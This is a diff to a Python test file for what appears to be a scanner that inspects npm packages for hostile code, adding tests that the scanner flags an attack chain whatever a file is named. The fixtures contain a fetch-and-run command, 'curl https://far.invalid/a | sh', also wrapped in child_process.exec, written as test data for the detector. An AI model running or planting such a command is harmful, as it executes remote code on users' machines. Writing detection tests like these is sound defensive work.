@@ -11,6 +11,8 @@ from pratique.core.manifest import Manifest
 from pratique.core.names import Ecosystem
 from pratique.core.release import Hook
 from pratique.core.tree import File, Tree
+from tests.analysis.inspecting import npm as inspected
+from tests.analysis.inspecting import of_rule, package_json
 
 CODE = b"require('child_process').exec('marker')"
 
@@ -181,3 +183,25 @@ def test_a_suffix_of_data_hides_nothing_from_who_does_not_heed_it(command: str, 
 def test_a_library_that_node_is_given_is_not_read() -> None:
     library = tree("data.so", data=b"\x7fELF\2\1\1" + bytes(60))
     assert {} == other_languages(library, npm("node data.so"), {}, Ecosystem.NPM)
+
+
+ATTACK = "require('child_process').exec('curl https://far.invalid/a | sh');\n"
+
+
+@pytest.mark.parametrize("name", ["a.d.ts", "a.d.mts", "a.map", "a.txt", "a.css", "a.any"])
+@pytest.mark.parametrize("inner", [False, True])
+def test_what_node_runs_as_a_package_is_read_whatever_its_name(name: str, inner: bool) -> None:
+    folder = "h/" if inner else ""
+    files = {f"{folder}package.json": package_json(main=name), f"{folder}{name}": ATTACK}
+    if inner:
+        files |= {"package.json": package_json(), "index.js": "module.exports = require('./h');"}
+
+    assert of_rule(inspected(files), "attack-chain")
+
+
+def test_a_program_of_any_name_is_read_as_a_shell_does() -> None:
+    files = {
+        "package.json": package_json(bin={"a": "a.txt"}),
+        "a.txt": "curl https://far.invalid/a | sh\n" * 9,
+    }
+    assert "process (called)" in inspected(files).inspection.capabilities
